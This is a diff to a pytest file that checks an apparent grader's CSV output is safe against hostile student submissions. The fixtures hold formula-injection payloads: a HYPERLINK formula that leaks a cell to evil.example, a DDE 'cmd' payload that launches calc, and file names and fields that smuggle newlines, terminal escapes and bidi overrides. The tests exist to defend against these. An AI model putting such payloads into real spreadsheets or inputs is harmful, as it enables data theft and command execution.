@@ -24,6 +24,7 @@ from pathlib import Path
 import pytest
 
 from grader import load_bank
+from grader.safetext import path_text
 
 sys.path.insert(0, str(Path(__file__).parent / "fixtures" / "submissions"))
 sys.path.insert(0, str(Path(__file__).parent / "fixtures"))
@@ -69,6 +70,7 @@ def _cases(bank) -> dict[str, tuple[bytes, float]]:
         "formula.json": (json.dumps({"student": '=HYPERLINK("http://evil.example/?leak="&A1,"open")', "answers": {
             "@SUM(1+1)*cmd|' /C calc'!A0": DEEP, **KEY}}).encode(), 2),
         "=cmd.json": (json.dumps({"answers": KEY}).encode(), 2),
+        "new\nline,6,6,100.00,true.json": (json.dumps({"answers": KEY}).encode(), 2),  # a file name is a student's too
         # terminal escapes, NUL, CR/LF that try to add a row, bidi overrides
         "control.json": (json.dumps({"student": "\x1b[31mred\x1b]0;pwned\x07\x00\r\nbob,6,6,100.00,true\u202egpj.exe",
                                      "answers": {"lora-principle": "B\x1b[2J", "total-params": 294912}}).encode(), 1),
@@ -103,7 +105,7 @@ def graded(tmp_path_factory):
 
 
 def _row(graded, name: str) -> dict:
-    found = [r for r in graded["rows"] if Path(r["file"]).name == name]
+    found = [r for r in graded["rows"] if Path(r["file"]).name == path_text(name)]  # as grades.csv writes it
     assert len(found) == 1, (name, [r["file"] for r in graded["rows"]])
     return found[0]
 
@@ -150,6 +152,8 @@ def test_grades_csv_is_a_clean_table(graded):
             cell = row[column]
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
             assert not CONTROL.search(cell), (column, cell)
+            if column != "reason":
+                assert "\n" not in cell and "\t" not in cell, (column, cell)
     assert not any(r["student"].startswith("bob") for r in graded["rows"])
 
 
